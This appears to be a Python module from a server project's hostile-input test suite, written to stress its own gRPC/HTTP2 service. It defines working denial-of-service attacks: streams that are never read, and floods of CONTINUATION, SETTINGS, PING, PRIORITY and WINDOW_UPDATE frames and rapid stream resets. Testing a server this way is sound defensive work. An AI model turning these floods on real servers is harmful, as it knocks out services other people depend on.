"""Attacks on the server's memory and on the thread that receives. Each is made on connections of its own and lasts while they do.

An attacker takes what it gets: refused streams and closed connections are no failures of an attack.
"""

from __future__ import annotations

import contextlib
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager

from hyperframe.frame import ContinuationFrame, Frame, HeadersFrame, PingFrame, PriorityFrame, SettingsFrame, WindowUpdateFrame

from serve.pb.digits.v1 import digits_pb2 as pb
from tests.hostile.http2 import Http2Connection, gzipped
from tests.hostile.shapes import GENERATE, STREAM, STREAM_INFER, generate_request, infer_count, stream_labels

WATCH = "/grpc.health.v1.Health/Watch"
UNREAD = 200  # answers, of 3.2 MB each
UNREAD_EVERY_S = 0.03  # one asks for the next: more would be refused for the queue's length
MANY_LABELS, LABEL_STREAMS = 1_000_000, 20
INFER_STREAMS, INFER_REQUESTS = 6, 100
MANY_STREAMS, CONNECTIONS = 20_000, 20
FLOOD_BLOCK = 1000  # frames in one write


def unread_answers(target: str) -> list[Http2Connection]:
    """Ask for large answers and read none."""
    connection = Http2Connection(target, window=0, grants=False)
    message = generate_request(1024, pb.IMAGE_FORMAT_FLOAT32)
    for _ in range(UNREAD):
        connection.open_many(GENERATE, 1, message)
        connection.settle(UNREAD_EVERY_S)
    return [connection]


def unread_label_streams(target: str) -> list[Http2Connection]:
    """Begin streams with many labels each, compressed, and read nothing."""
    connection = Http2Connection(target, window=0, grants=False)
    connection.open_many(STREAM, LABEL_STREAMS, gzipped(stream_labels(MANY_LABELS)), compressed=True)
    return [connection]


def unread_infer_streams(target: str) -> list[Http2Connection]:
    """Ask for answer after answer on streams that are not read."""
    connections = []
    for _ in range(INFER_STREAMS):
        connection = Http2Connection(target, window=0, grants=False)
        stream = connection.open(STREAM_INFER)
        connections.append(connection)
        for _ in range(INFER_REQUESTS):
            connection.send(stream, infer_count(1024, raw=True, output="images"), end=False)
    return connections


def watches(target: str) -> list[Http2Connection]:
    """Watch the server's health many times over."""
    return _many(target, WATCH, b"")


def calls_without_a_message(target: str) -> list[Http2Connection]:
    """Begin calls and send nothing."""
    return _many(target, GENERATE, None)


def _many(target: str, method: str, message: bytes | None) -> list[Http2Connection]:
    connections = []
    for _ in range(CONNECTIONS):
        connection = Http2Connection(target)
        connections.append(connection)
        with contextlib.suppress(OSError):
            connection.open_many(method, MANY_STREAMS // CONNECTIONS, message)
    return connections


ON_MEMORY: dict[str, Callable[[str], list[Http2Connection]]] = {
    attack.__name__: attack
    for attack in (unread_answers, unread_label_streams, unread_infer_streams, watches, calls_without_a_message)
}


@contextmanager
def under_attack(target: str, *attacks: Callable[[str], list[Http2Connection]]) -> Iterator[list[Http2Connection]]:
    """A block during which these attacks last, begun one after the other; their connections."""
    with ExitStack() as stack:
        connections = []
        for attack in attacks:
            with contextlib.suppress(OSError):
                connections += [stack.enter_context(connection) for connection in attack(target)]
        yield connections


def flood(target: str, kind: str, seconds: float) -> int:
    """Send frames of a kind as fast as they are taken, for so long or until the server closes the connection; how many bytes."""
    connection = Http2Connection(target)
    more = FLOODS[kind](connection)
    deadline = time.monotonic() + seconds
    with connection, contextlib.suppress(OSError):
        while time.monotonic() < deadline:
            connection.write(more())
            connection.drop_received()
    return connection.sent_bytes


def _endless_headers(connection: Http2Connection) -> Callable[[], bytes]:
    connection.write(HeadersFrame(1, b"").serialize())  # neither this frame nor those that follow end the block
    return lambda: ContinuationFrame(1, b"\x00\x01a\x01b" * 20).serialize() * FLOOD_BLOCK


def _resets(connection: Http2Connection) -> Callable[[], bytes]:
    def more() -> bytes:
        streams = connection.open_many(GENERATE, FLOOD_BLOCK // 10, generate_request(1))
        connection.reset(streams)
        return b""

    return more


def _frames(frame: Frame) -> Callable[[Http2Connection], Callable[[], bytes]]:
    block = frame.serialize() * FLOOD_BLOCK
    return lambda _: lambda: block


FLOODS: dict[str, Callable[[Http2Connection], Callable[[], bytes]]] = {
    "continuation": _endless_headers,
    "settings": _frames(SettingsFrame(settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65_535})),
    "ping": _frames(PingFrame(opaque_data=b"12345678")),
    "priority": _frames(PriorityFrame(1, depends_on=0, stream_weight=1)),
    "window_update": _frames(WindowUpdateFrame(0, 1)),
    "resets": _resets,
}
